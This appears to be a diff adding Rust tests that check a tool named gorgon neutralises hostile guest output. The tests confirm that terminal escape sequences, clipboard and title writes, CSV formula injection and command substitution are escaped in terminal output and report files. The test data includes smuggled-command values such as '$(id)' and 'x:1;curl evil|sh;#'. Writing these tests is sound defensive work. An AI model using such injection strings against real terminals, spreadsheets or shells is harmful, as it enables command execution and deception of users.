@@ -1,0 +1,120 @@
+//! Tasks that mean harm by what they say: nothing of it reaches a terminal or a file but as text.
+
+use std::process::{Command, Stdio};
+
+use crate::support::{Ran, gorgon, guest, run};
+use crate::terminal::on_a_terminal;
+
+/// A window's title, the clipboard, a cleared screen, C1 controls, text turned around, a formula and a command.
+const TEXT: &str = "=cmd\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}evil\u{1b}[31mred;$(id)";
+
+/// What of `written` is an escape sequence or a control, but for colours, what gorgon's own progress draws with, newlines
+/// and tabs.
+fn unsafe_parts(written: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut rest = written;
+    while let Some(at) = rest.find(|c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || c == '\u{202e}') {
+        let sequence = &rest[at..];
+        let end = sequence.char_indices().skip(2).find(|(_, c)| c.is_ascii_alphabetic()).map_or(0, |(at, _)| at + 1);
+        let is_csi = sequence.starts_with("\u{1b}[");
+        // Colours; and of a line that is drawn again: erase it, go up.
+        let passes = is_csi && matches!(&sequence[end - 1..end], "m" | "K" | "A");
+        if passes {
+            rest = &sequence[end..];
+        } else {
+            found.push(sequence.chars().take(12).collect());
+            rest = &sequence[sequence.chars().next().map_or(1, char::len_utf8)..];
+        }
+    }
+    found
+}
+
+fn command(name: &str, act: &str) -> Command {
+    let mut command = gorgon();
+    command.arg(name).arg(guest("hostile")).args(["--env", &format!("TEXT={TEXT}")]);
+    if name == "run" {
+        command.args(["-n", "2"]);
+    }
+    command.args(["--", act]);
+    command
+}
+
+#[test]
+fn nothing_but_colours_reaches_a_terminal() {
+    for name in ["run", "test"] {
+        for act in ["say", "fail", "panic", "span", "lookup"] {
+            let written = on_a_terminal(command(name, act), 80);
+            assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{name} {act}: {written:?}");
+            assert!(written.contains("evil") || act == "panic" || act == "lookup", "{name} {act}: {written:?}");
+        }
+    }
+}
+
+#[test]
+fn nothing_unescaped_is_in_a_file() {
+    let directory = tempfile::tempdir().unwrap();
+    let file = |name: &str| directory.path().join(name);
+    for act in ["say", "fail", "span"] {
+        let mut run = gorgon();
+        run.arg("run").arg(guest("hostile")).args(["-n", "2", "--quiet", "--env", &format!("TEXT={TEXT}")]);
+        for (flag, name) in [("--json", "r.json"), ("--html", "r.html"), ("--csv", "r.csv"), ("--junit", "r.xml")] {
+            run.arg(flag).arg(file(name));
+        }
+        run.args(["--hlog"]).arg(file("r.hlog")).args(["--", act]).stderr(Stdio::null());
+        run.status().unwrap();
+        for name in ["r.json", "r.html", "r.csv", "r.xml", "r.hlog"] {
+            let text = std::fs::read_to_string(file(name)).unwrap();
+            let parts: Vec<_> = unsafe_parts(&text).into_iter().filter(|part| !part.starts_with('\u{feff}')).collect();
+            // JSON and CSV hold the text as it is, but for what their own escaping is about.
+            let is_data = matches!(name, "r.json" | "r.csv");
+            assert!(is_data || parts.is_empty(), "{act} {name}: {parts:?}");
+            assert!(name != "r.json" || !text.contains('\u{1b}'), "{act}: {text}");
+        }
+        let csv = std::fs::read_to_string(file("r.csv")).unwrap();
+        let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
+            .records()
+            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect();
+        assert!(!cells.iter().any(|cell| cell.starts_with(['=', '+', '@'])), "{act}: {csv}");
+        assert!(cells.iter().any(|cell| cell.starts_with("'=cmd")), "{act}: {csv}");
+    }
+}
+
+#[test]
+fn huge_names_are_refused_counted_and_cut() {
+    for extent in [["-n", "3"], ["-d", "2s"]] {
+        let ran = run(&guest("hostile"), &[&extent[..], &["--quiet", "--", "lookups"]].concat());
+        assert_eq!(ran.adds_up().code, Some(0), "{extent:?}: {}", ran.stderr);
+        assert_eq!(ran.report["runs"][0]["faults"].as_array().map(Vec::len), Some(0), "{extent:?}");
+        let size = ran.report.to_string().len();
+        assert!(size < 200_000, "{size} bytes of report");
+        let refused = refused(&ran);
+        let times: u64 = refused.iter().map(|(_, times, _)| times).sum();
+        // A name that the guest's own library refuses never comes here.
+        assert!(times == 0 || times == 3 * ran.figure("/operations/completed"), "{times}");
+        assert!(refused.iter().all(|(name, ..)| name.len() <= 256));
+    }
+}
+
+fn refused(ran: &Ran) -> Vec<(String, u64, Option<String>)> {
+    let refused = ran.report["runs"][0]["network"]["refused"].as_array().cloned().unwrap_or_default();
+    let text = |value: &serde_json::Value| value.as_str().map(str::to_owned);
+    let of = |of: &serde_json::Value| {
+        (text(&of["destination"]).unwrap_or_default(), of["count"].as_u64().unwrap_or_default(), text(&of["flag"]))
+    };
+    refused.iter().map(of).collect()
+}
+
+#[test]
+fn what_is_no_destination_is_not_suggested() {
+    for (name, flag) in [
+        ("x:1;curl\u{20}evil|sh;#", None),
+        ("$(id)", None),
+        ("db.example.com", Some("--allow tcp://db.example.com:PORT")),
+    ] {
+        let ran = run(&guest("hostile"), &["-n", "1", "--quiet", "--env", &format!("TEXT={name}"), "--", "lookup"]);
+        let refused = refused(&ran);
+        assert_eq!(refused.len(), 1, "{name}: {refused:?}");
+        assert_eq!(refused[0].2.as_deref(), flag, "{name}");
+    }
+}
